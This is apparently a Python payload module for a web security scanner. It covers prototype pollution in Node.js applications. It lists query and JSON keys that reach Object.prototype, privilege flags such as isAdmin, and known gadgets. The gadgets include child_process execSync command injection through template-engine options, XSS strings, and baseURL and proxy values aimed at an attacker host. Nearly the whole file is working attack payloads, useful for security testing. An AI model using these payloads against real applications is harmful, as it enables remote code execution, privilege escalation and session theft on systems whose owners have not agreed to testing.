"""Prototype pollution: keys that reach Object.prototype through a recursive merge or a query-string
parser (qs, body-parser extended), and the properties known to turn it into privilege, XSS or code
execution in common Node.js libraries (template engines, child_process, client-side sanitisers)."""

# Parameter names (query or form); {prop} a polluted property, {field} an ordinary field name.
PROTO_NAMES = [
    ("query_name", "__proto__[{prop}]"), ("query_name", "__proto__.{prop}"), ("query_name", "constructor[prototype][{prop}]"),
    ("query_name", "constructor.prototype.{prop}"), ("query_name", "{field}[__proto__][{prop}]"), ("query_name", "__proto__[{prop}][]"),
    ("query_name", "{field}[constructor][prototype][{prop}]"), ("query_name", "__pro__proto__to__[{prop}]"),
    ("query_name", "[__proto__][{prop}]"), ("query_name", "{field}.__proto__.{prop}"), ("query_name", "__proto__[{prop}][0]"),
    ("query_name", "{field}[0][__proto__][{prop}]"), ("query_name", "__proto__[{field}][{prop}]"), ("query_name", "constructor[prototype][{field}][{prop}]"),
]
# JSON documents merged into a request body.
PROTO_JSON = [
    ("json_body", '{"__proto__": {"{prop}": {value}}}'), ("json_body", '{"constructor": {"prototype": {"{prop}": {value}}}}'),
    ("json_body", '{"{field}": {"__proto__": {"{prop}": {value}}}}'), ("json_body", '{"__proto__": {"{field}": {"{prop}": {value}}}}'),
    ("json_body", '{"{field}": {"constructor": {"prototype": {"{prop}": {value}}}}}'), ("json_body", '[{"__proto__": {"{prop}": {value}}}]'),
    ("json_body", '{"__proto__": [{value}]}'), ("json_body", '{"{field}": [{"__proto__": {"{prop}": {value}}}]}'),
]
# Properties with ordinary values: privilege flags and markers.
PROTO_PROPS = """isAdmin admin role polluted debug verified is_staff canDelete allowed superuser approved premium owner
authorized bypass""".split()
PROTO_PLAIN_VALUES = ["true", "1", "admin", "yes", "polluted", "{w}", "0", "[]"]
# Known gadgets: (property, value); {cmd} a shell command, {host} an attacker host.
PROTO_GADGETS = [
    ("outputFunctionName", "_tmp1;global.process.mainModule.require('child_process').execSync('{cmd}');var __tmp2"),
    ("escapeFunction", "1;return global.process.mainModule.constructor._load('child_process').execSync('{cmd}')"),
    ("shell", "/proc/self/exe"), ("argv0", "console.log(require('child_process').execSync('{cmd}').toString())//"),
    ("NODE_OPTIONS", "--require /proc/self/environ"), ("execArgv", "--eval=require('child_process').execSync('{cmd}')"),
    ("sourceURL", "\u2028\u2029\nglobal.process.mainModule.require('child_process').execSync('{cmd}')"),
    ("innerHTML", "<img src=x onerror=alert(document.domain)>"), ("srcdoc", "<script>alert(1)</script>"),
    ("transport_url", "data:,alert(1)//"), ("client", "1"), ("compileDebug", "1"), ("block", "{\"type\":\"Text\",\"line\":\"process.mainModule.require('child_process').execSync('{cmd}')\"}"),
    ("allowedTags", "script"), ("exposedHeaders", "x-polluted"), ("status", "510"), ("json spaces", " "), ("contentType", "text/html"),
    ("env", "{\"NODE_DEBUG\":\"require('child_process').execSync('{cmd}')//\"}"), ("preventDefault", "x"),
    ("src", "data:,alert(1)//"), ("hitCallback", "alert(1)"), ("template", "<img src onerror=alert(1)>"),
    ("view options", "{\"client\":true,\"escapeFunction\":\"1;return process.mainModule.require('child_process').execSync('{cmd}')\"}"),
    ("baseURL", "http://{host}/"), ("proxy", "http://{host}:8080"), ("headers", "{\"x-forwarded-host\":\"{host}\"}"),
]
PROTO_FIELDS = ["user", "profile", "settings", "options", "config", "data", "filter", "prefs", "body", "meta", "payload", "item"]
